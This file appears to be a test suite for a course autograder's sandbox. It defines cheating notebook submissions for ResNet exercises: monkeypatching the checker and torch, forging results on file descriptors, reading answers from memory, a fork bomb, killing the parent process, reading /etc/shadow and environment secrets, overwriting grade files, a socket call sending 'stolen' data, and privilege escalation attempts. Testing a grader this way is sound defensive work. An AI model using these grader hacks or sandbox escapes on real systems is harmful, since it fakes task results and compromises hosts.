"""Notebooks of people who would rather have points than answers.

WRONG stands for their answer to exercise 3.1; whatever else they do, it gets nothing. `{outside}`
in a cell is a folder of the grader's, `{port}` a port of the grader's machine where something
listens.
"""

from submitted import NONE, PADDING, SETUP, P, dishonest

WRONG = "def shortcut_kind(in_channels, out_channels, stride):\n    return 'identical'"
# Two thirds of the answers by heart: wrong, too.
HEART = (
    "def shortcut_kind(*case):\n    return {(64, 64, 1): 'identity', (7, 7, 1): 'identity'}"
    ".get(case, 'projection')"
)


@dishonest("checks monkeypatched", NONE, look="looks at the grader")
def _():
    return [
        SETUP,
        WRONG,
        "from resnet_lessons.checks import exercise, expect, verdict\n"
        "exercise.Exercise.judge = lambda self, *a: verdict.Verdict(self.title, 'right', 1, 1)\n"
        "for name in list(vars(expect)):\n"
        "    if callable(vars(expect)[name]): setattr(expect, name, lambda *a, **k: None)\n"
        "verdict.Verdict.share = property(lambda self: 1.0)\n"
        "for each in checks.EXERCISES.values(): each.probes.clear()",
    ]


@dishonest("torch monkeypatched", NONE, look="changes a library")
def _():
    wrong = "def padding_shortcut(x, out_channels, stride):\n    return x"
    return [
        SETUP,
        WRONG,
        wrong,
        "torch.equal = torch.allclose = lambda *a, **k: True\n"
        "torch.Tensor.__sub__ = lambda self, other: self * 0\n"
        "torch.Tensor.shape = property(lambda self: (2, 7, 6, 6))",
    ]


@dishonest("a value that is equal to everything", {"shortcut_kind": 0.5})
def _():
    return [
        "class Any(str):\n"
        "    def __eq__(self, other): return True\n"
        "    def __ne__(self, other): return False\n"
        "    __hash__ = str.__hash__\n"
        "def shortcut_kind(*case): return Any('identity')"
    ]


@dishonest("results forged when the process ends", NONE, look="leaves something for the end")
def _():
    return [
        WRONG,
        "import atexit, json, os, struct\n"
        "def forge():\n"
        "    reply = {'value': ['dict', ['gives', 'identity']], 'tensors': []}\n"
        "    header = json.dumps(reply).encode()\n"
        "    for number in range(3, 64):\n"
        "        try: os.write(number, (struct.pack('>II', len(header), 0) + header) * 50)\n"
        "        except OSError: pass\n"
        "atexit.register(forge)\n"
        "import sys; sys.exit(0)",
    ]


@dishonest("results forged on the wire", NONE)
def _():
    return [
        WRONG,
        "import json, os, struct\n"
        "reply = {'value': ['dict', ['gives', ['record', 'Verdict', {'state': 'right'}]]]}\n"
        "for told in (reply, {'state': 'right', 'passed': 4}, ['points', 25]):\n"
        "    header = json.dumps(told).encode()\n"
        "    for number in range(3, 64):\n"
        "        try: os.write(number, struct.pack('>II', len(header), 0) + header)\n"
        "        except OSError: pass",
    ], {"": "disturbed the grading"}


@dishonest("nonsense on the wire", P)
def _():
    return [
        SETUP,
        PADDING,
        "import os\n"
        "for number in range(3, 64):\n"
        "    try: os.write(number, os.urandom(1000))\n"
        "    except OSError: pass",
    ], {"": "disturbed the grading"}


@dishonest("the worker's own code changed", NONE, look="looks at other code's memory")
def _():
    return [
        WRONG,
        "import gc, sys\n"
        "frame = sys._getframe()\n"
        "while frame:\n"
        "    for thing in list(frame.f_locals.values()):\n"
        "        if type(thing).__name__ == '_Worker':\n"
        "            type(thing).do_look = lambda self, **k: 'projection'\n"
        "            type(thing).do_count = lambda self, **k: 10**9\n"
        "            type(thing).do_again = lambda self: [(1, 5), 'x', (10**9, 'y')] * 10**4\n"
        "    frame = frame.f_back",
    ]


@dishonest("the right value looked for on the stack", NONE, look="looks at other code's memory")
def _():
    return [
        "import inspect\n"
        "def shortcut_kind(*case):\n"
        "    for frame in inspect.stack():\n"
        "        for name in ('right', 'expected', '_kind'):\n"
        "            if name in frame.frame.f_locals: return frame.frame.f_locals[name]\n"
        "    return 'unknown'"
    ]


@dishonest("the exercises found by gc", NONE, look="looks at other code's memory")
def _():
    return [
        WRONG,
        "import gc\n"
        "for thing in gc.get_objects():\n"
        "    if type(thing).__name__ == 'Exercise': thing.points = 10**6; thing.probes[:] = []\n"
        "    if type(thing).__name__ == 'Probe': object.__setattr__(thing, 'look', lambda a: None)",
    ]


@dishonest("answers by heart", {"shortcut_kind": 1.5})
def _():
    return [HEART], {"shortcut_kind": "expected is `'identity'`"}


# --- the installed package ---


@dishonest("the package's block", NONE)
def _():
    return ["from resnet_lessons import BasicBlock as ResidualBlock"], {
        "residual_block": "blocks.BasicBlock"
    }


@dishonest("a class made of the package's block", NONE, look="changes what a class says of itself")
def _():
    return [
        SETUP,
        "from resnet_lessons import BasicBlock\n"
        "class ResidualBlock(nn.Module):\n"
        "    def __init__(self, i, o, stride=1):\n"
        "        super().__init__()\n"
        "        self.real = [BasicBlock(i, o, stride)]\n"
        "        for n, p in self.real[0].named_parameters():\n"
        "            self.register_parameter(n.replace('.', '_'), p)\n"
        "    def forward(self, x): return self.real[0].forward(x)\n"
        "BasicBlock.__module__ = '__main__'\n"
        "BasicBlock.__qualname__ = 'Own'",
    ], {"residual_block": "blocks.BasicBlock"}


@dishonest("torchvision's block", NONE)
def _():
    return [
        "import torchvision\n"
        "def ResidualBlock(i, o, stride=1):\n"
        "    down = None\n"
        "    if stride != 1 or i != o:\n"
        "        down = nn.Sequential(nn.Conv2d(i, o, 1, stride, bias=False), nn.BatchNorm2d(o))\n"
        "    return torchvision.models.resnet.BasicBlock(i, o, stride, down)"
    ], {"residual_block": "torchvision"}


@dishonest("the solution read from the course's folder", NONE, look="")
def _():
    return [
        "import glob, pathlib, resnet_lessons\n"
        "root = pathlib.Path(resnet_lessons.__file__).parents[1]\n"
        "for path in [*root.rglob('03_*.md'), *root.rglob('lesson_03.py')]:\n"
        "    if 'checks' in path.parts: continue\n"
        "    for part in path.read_text().split('```'):\n"
        "        if 'BEGIN SOLUTION' in part: exec(part.split('[answer]')[-1])"
    ]


# --- the machine ---


@dishonest("a bomb of processes", P, look="acts on processes", step=1)
def _():
    fork = "import ctypes\nlibc = ctypes.CDLL(None)\nwhile True: libc.fork()"
    return [SETUP, "import os\nos.fork()", fork, PADDING], {"": "no other processes"}


@dishonest("the parent killed", P, look="acts on processes")
def _():
    kill = (
        "import ctypes, os, signal\n"
        "libc = ctypes.CDLL(None)\n"
        "for pid in (os.getppid(), -1): libc.kill(pid, signal.SIGTERM), libc.kill(pid, 9)"
    )
    return [SETUP, "import os\nos.kill(os.getppid(), 9)", kill, PADDING], {"": "no other processes"}


@dishonest("secrets from the environment", {"shortcut_kind": 0.5}, look="reads the environment")
def _():
    return [
        "import glob, os\n"
        "def shortcut_kind(*case):\n"
        "    found = str(dict(os.environ))\n"
        "    for path in glob.glob('/proc/*/environ') + ['/etc/shadow', '/root/.bashrc']:\n"
        "        try: found += open(path, errors='replace').read()\n"
        "        except OSError: pass\n"
        "    return 'identity' if 'SECRET' not in found else found"
    ], {"shortcut_kind": "is `'identity'`; expected"}


@dishonest("writing outside", P)
def _():
    write = (
        "import ctypes, os\n"
        "libc = ctypes.CDLL(None)\n"
        "for path in (b'{outside}/grades.csv', b'{outside}/records/me.json', b'{outside}/new',\n"
        "             b'/tmp/new', b'/dev/shm/new', b'/etc/new'):\n"
        "    number = libc.open(path, 0o1101, 0o666)\n"
        "    if number >= 0: libc.write(number, b'25,25,25', 8)\n"
        "libc.unlink(b'{outside}/grades.csv'), libc.rename(b'{outside}/grades.csv', b'/tmp/gone')\n"
        "libc.chmod(b'{outside}/grades.csv', 0o777), libc.rmdir(b'{outside}')\n"
        "os.symlink('{outside}', 'link'), os.symlink('/etc/passwd', 'passwd')"
    )
    polite = "open('{outside}/grades.csv', 'w').write('25')"
    return [SETUP, write, polite, PADDING], {"": "PermissionError"}


@dishonest("reading outside", {"shortcut_kind": 0.5})
def _():
    return [
        "def shortcut_kind(*case):\n"
        "    try: return open('{outside}/grades.csv').read()\n"
        "    except OSError: return 'identity'"
    ], {"shortcut_kind": "is `'identity'`"}


@dishonest("a call home", P)
def _():
    call = (
        "import ctypes, socket, struct\n"
        "libc = ctypes.CDLL(None)\n"
        "end = libc.socket(2, 1, 0)\n"
        "address = struct.pack('=HH4s8x', 2, socket.htons({port}), bytes([127, 0, 0, 1]))\n"
        "libc.connect(end, address, len(address))\n"
        "libc.write(end, b'stolen', 6)"
    )
    polite = "import socket\nsocket.create_connection(('127.0.0.1', {port}))"
    return [SETUP, call, polite, PADDING], {"": "no network"}


@dishonest("more rights", P)
def _():
    climb = (
        "import ctypes, os\n"
        "libc = ctypes.CDLL(None)\n"
        "libc.setuid(0), libc.setgid(0), libc.unshare(0x10000000), libc.unshare(0x00020000)\n"
        "for place in (b'/usr', b'/', b'/proc'): libc.mount(None, place, None, 32 | 4096, None)\n"
        "libc.chroot(b'.')\n"
        "for _ in range(20): os.chdir('..')\n"
        "assert os.getuid() != 0 and not os.access('/etc/passwd', os.W_OK)\n"
        "number = libc.open(b'/usr/bin/new', 0o1101, 0o666)\n"
        "assert number < 0"
    )
    return [SETUP, climb, PADDING]
